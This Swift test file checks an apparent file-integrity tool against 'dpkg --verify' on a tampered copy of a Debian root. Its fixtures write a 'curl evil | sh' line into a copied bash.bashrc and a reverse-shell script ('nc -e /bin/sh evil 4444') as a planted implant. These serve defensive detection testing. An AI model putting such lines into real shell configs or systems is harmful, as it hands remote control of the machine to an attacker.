import Foundation
import Testing
import TestSupport

/// `dpkg --verify --root` is the truth for dpkg-owned files: on a copy of a real debootstrap root
/// (scripts/test builds it and sets PROVENANT_DEBIAN_ROOT), untouched and then tampered with, verify-files
/// must report the same files with the same kind, and its table lines must be dpkg's lines.
@Suite(.serialized) struct VerifyFilesOracleTests {
    static let debianRoot = ProcessInfo.processInfo.environment["PROVENANT_DEBIAN_ROOT"]

    /// One line of `dpkg --verify`: its result characters, conffile flag, path and kind.
    struct DpkgLine: Hashable, CustomStringConvertible {
        var path: String
        var kind: String
        var description: String { "\(kind) \(path)" }

        /// `??5?????? c /etc/x`, `missing     /usr/x (Not a directory)`.
        init?(_ line: Substring) {
            guard line.count > 12 else { return nil }
            let code = line.prefix(9), flag = line.dropFirst(10).prefix(1)
            var path = String(line.dropFirst(12))
            if let open = path.range(of: " (", options: .backwards), path.hasSuffix(")") { path = String(path[..<open.lowerBound]) }
            self.path = path
            if code.hasPrefix("missing") { kind = "files:missing" } else { kind = flag == "c" ? "files:conffile-modified" : "files:modified" }
        }

        init(path: String, kind: String) { self.path = path; self.kind = kind }
    }

    static func dpkgVerify(_ root: String) throws -> (lines: [String], parsed: Set<DpkgLine>) {
        let r = try runProcess("dpkg", ["--verify", "--root=\(root)"])
        // dpkg exits 1 when it reports anything; 2 would be its own failure.
        #expect(r.code == 0 || r.code == 1, "dpkg --verify failed: \(r.err)")
        let lines = r.out.split(separator: "\n").map(String.init)
        return (lines, Set(lines.compactMap { DpkgLine(Substring($0)) }))
    }

    /// Our dpkg-owned findings as (path, kind), and our table's lines for them.
    static func ours(_ root: String) throws -> (run: VerifyRun, parsed: Set<DpkgLine>, lines: Set<String>) {
        let run = try VerifyRun.run(root)
        #expect(run.code == 0, "\(run.err)")
        let parsed = Set(run.findings.filter { $0.source == "dpkg" }.map { DpkgLine(path: $0.path, kind: $0.rule) })
        let table = try runProcess(provenantBinary, ["verify-files", root])
        let lines = Set(table.out.split(separator: "\n").map(String.init).filter { !$0.contains(" [") && !$0.hasPrefix("verify-files:") })
        return (run, parsed, lines)
    }

    @Test(.enabled(if: debianRoot != nil, "PROVENANT_DEBIAN_ROOT is unset: scripts/test builds a debootstrap root and sets it"))
    func sameFilesAndKindsAsDpkgVerify() throws {
        let source = try #require(Self.debianRoot)
        let dir = try TestRoot.make("verify-files-oracle")
        defer { try? FileManager.default.removeItem(at: dir) }
        let root = dir.appendingPathComponent("root").path
        let cp = try runProcess("cp", ["-a", source, root])
        try #require(cp.code == 0, "cp -a: \(cp.err)")

        // Untouched: whatever dpkg says, we say; and nothing is unowned or unchecked.
        let before = try Self.dpkgVerify(root)
        let clean = try Self.ours(root)
        #expect(clean.parsed == before.parsed, "only ours: \(clean.parsed.subtracting(before.parsed)); only dpkg's: \(before.parsed.subtracting(clean.parsed))")
        #expect(clean.run.rule("files:unowned").isEmpty, "\(clean.run.findings)")
        #expect(clean.run.notChecked.isEmpty, "\(clean.run.notChecked.prefix(5))")
        #expect((clean.run.summary["filesChecked"] as? Int ?? 0) > 3000, "a minbase root has ~4,700 files with md5sums")

        // Tamper with it.
        let r = URL(fileURLWithPath: root)
        let libz = try #require(try FileManager.default.contentsOfDirectory(atPath: root + "/usr/lib/x86_64-linux-gnu")
            .first { $0.hasPrefix("libz.so.1.") }, "zlib1g's library")
        // A packaged binary, through merged-usr: dpkg names it /bin/gzip.
        let gzip = try FileHandle(forWritingTo: r.appendingPathComponent("usr/bin/gzip"))
        try gzip.seekToEnd(); try gzip.write(contentsOf: Data("implant".utf8)); try gzip.close()
        // A truncated shared library, a deleted file, an edited conffile.
        #expect(truncate(root + "/usr/lib/x86_64-linux-gnu/" + libz, 4096) == 0)
        try FileManager.default.removeItem(atPath: root + "/usr/share/doc/tar/copyright")
        try TestRoot.write(r, "etc/bash.bashrc", try String(contentsOfFile: root + "/etc/bash.bashrc", encoding: .utf8) + "\ncurl evil | sh\n")
        // A deleted conffile, and a packaged directory gone with everything in it.
        try FileManager.default.removeItem(atPath: root + "/etc/issue.net")
        try FileManager.default.removeItem(atPath: root + "/usr/share/doc/sed")
        // A file where a directory was: every path below is missing (Not a directory).
        try FileManager.default.removeItem(atPath: root + "/usr/share/doc/grep")
        try TestRoot.write(r, "usr/share/doc/grep", "not a directory")
        // A packaged file replaced by a link to an absolute path: read inside the root, as dpkg reads it on this host.
        try FileManager.default.removeItem(atPath: root + "/usr/share/doc/dash/copyright")
        try TestRoot.link(r, "usr/share/doc/dash/copyright", to: "/etc/debian_version")
        // Unowned: an executable, a library by name, and an ELF shared object by content alone.
        try TestRoot.write(r, "usr/bin/implant", "#!/bin/sh\nexec nc -e /bin/sh evil 4444\n", mode: 0o755)
        try TestRoot.write(r, "usr/lib/x86_64-linux-gnu/libimplant.so", [0x7f, 0x45, 0x4c, 0x46] + [UInt8](repeating: 0, count: 60))
        let elf = try [UInt8](Data(contentsOf: URL(fileURLWithPath: source + "/usr/lib/x86_64-linux-gnu/" + libz)))
        try TestRoot.write(r, "usr/lib/plugin-cache", elf)
        // A packaged file replaced by a link that climbs out of the root to a copy of what it held: dpkg
        // follows it (and finds the digest intact); verify-files must not leave the root.
        let outside = dir.appendingPathComponent("outside-copyright")
        try FileManager.default.copyItem(atPath: source + "/usr/share/doc/gzip/copyright", toPath: outside.path)
        try FileManager.default.removeItem(atPath: root + "/usr/share/doc/gzip/copyright")
        try TestRoot.link(r, "usr/share/doc/gzip/copyright", to: "../../../../../outside-copyright")

        let after = try Self.dpkgVerify(root)
        let tampered = try Self.ours(root)
        #expect(tampered.parsed == after.parsed, "only ours: \(tampered.parsed.subtracting(after.parsed)); only dpkg's: \(after.parsed.subtracting(tampered.parsed))")
        let expected: Set<DpkgLine> = [
            DpkgLine(path: "/bin/gzip", kind: "files:modified"),
            DpkgLine(path: "/lib/x86_64-linux-gnu/" + libz, kind: "files:modified"),
            DpkgLine(path: "/usr/share/doc/tar/copyright", kind: "files:missing"),
            DpkgLine(path: "/etc/bash.bashrc", kind: "files:conffile-modified"),
            DpkgLine(path: "/etc/issue.net", kind: "files:missing"),
            DpkgLine(path: "/usr/share/doc/sed/copyright", kind: "files:missing"),
            DpkgLine(path: "/usr/share/doc/grep/copyright", kind: "files:missing"),
            DpkgLine(path: "/usr/share/doc/dash/copyright", kind: "files:modified"),
            DpkgLine(path: "/usr/share/doc/gzip/copyright", kind: "files:modified"),
        ]
        #expect(expected.isSubset(of: after.parsed), "dpkg itself: \(expected.subtracting(after.parsed))")
        // Line for line, except where dpkg read outside the root (it found the right digest there: ?M.).
        let escaped = after.lines.filter { $0.hasSuffix(" /usr/share/doc/gzip/copyright") }
        #expect(escaped == ["?M.??????   /usr/share/doc/gzip/copyright"], "dpkg followed the link out of the root: \(escaped)")
        #expect(tampered.lines.contains("?M???????   /usr/share/doc/gzip/copyright"), "the link is not followed out of the root")
        #expect(Set(after.lines).subtracting(escaped) == tampered.lines.subtracting(["?M???????   /usr/share/doc/gzip/copyright"]),
                "only dpkg's: \(Set(after.lines).subtracting(tampered.lines)); only ours: \(tampered.lines.subtracting(after.lines))")
        #expect(tampered.run.rule("files:unowned") == ["/usr/bin/implant", "/usr/lib/x86_64-linux-gnu/libimplant.so", "/usr/lib/plugin-cache"],
                "\(tampered.run.findings.filter { $0.rule == "files:unowned" })")
        #expect(tampered.run.findings.filter { $0.rule == "files:unowned" }.map { $0.note ?? "" }.sorted() == ["ELF shared object", "executable", "shared library"])
        #expect(try VerifyRun.run(root, ["--fail-on", "high"]).code == 1)
        print("verify-files oracle: dpkg --verify \(after.lines.count) lines, ours \(tampered.lines.count) dpkg lines + \(tampered.run.rule("files:unowned").count) unowned; untouched: dpkg \(before.lines.count), ours \(clean.lines.count)")
    }
}
